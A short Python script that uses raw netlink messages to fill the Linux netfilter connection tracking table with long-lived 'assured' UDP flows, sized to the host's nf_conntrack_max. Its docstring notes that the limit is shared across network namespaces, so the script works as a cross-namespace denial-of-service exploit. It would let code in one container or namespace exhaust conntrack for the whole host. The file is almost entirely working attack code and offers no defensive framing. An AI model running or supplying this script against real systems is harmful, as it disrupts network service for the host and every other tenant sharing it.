"""Fill the connection tracking table of this network namespace with flows that are not evicted: python fill_conntrack.py

The limit is one for all namespaces, and what counts against it is each namespace's own.
"""

from __future__ import annotations

import socket
import struct
from pathlib import Path

SYSCTLS = Path("/proc/sys/net/netfilter")
NETLINK_NETFILTER, CT_NEW = 12, 1 << 8
REQUEST, CREATE, NESTED = 0x1, 0x400, 0x8000
CONFIRMED_AND_ASSURED = 0x2 | 0x4 | 0x8


def attribute(kind: int, value: bytes) -> bytes:
    return struct.pack("=HH", len(value) + 4, kind) + value + b"\0" * (-len(value) % 4)


def tuple_of(kind: int, source: bytes, destination: bytes, sport: int, dport: int) -> bytes:
    addresses = attribute(1, source) + attribute(2, destination)
    ports = attribute(1, b"\x11") + attribute(2, struct.pack(">H", sport)) + attribute(3, struct.pack(">H", dport))
    return attribute(kind | NESTED, attribute(1 | NESTED, addresses) + attribute(2 | NESTED, ports))


def flow(here: bytes, there: bytes, port: int) -> bytes:
    """A request to track UDP between two addresses for ten minutes (linux/netfilter/nfnetlink_conntrack.h)."""
    body = b"\x02\0\0\0" + tuple_of(1, here, there, port, 9) + tuple_of(2, there, here, 9, port)
    body += attribute(3, struct.pack(">I", CONFIRMED_AND_ASSURED)) + attribute(7, struct.pack(">I", 600))
    return struct.pack("=IHHII", len(body) + 16, CT_NEW, REQUEST | CREATE, 0, 0) + body


def main() -> None:
    maximum = int((SYSCTLS / "nf_conntrack_max").read_text())
    here, there = socket.inet_aton("192.0.2.1"), socket.inet_aton("198.51.100.0")
    batches = [b"".join(flow(here, there, port) for port in range(first, first + 256)) for first in range(1024, 33792, 256)]
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_NETFILTER) as kernel:
        for other in range(maximum // 32768 + 1):
            for batch in batches:
                kernel.send(batch.replace(there, there[:3] + bytes((other,))))


if __name__ == "__main__":
    main()
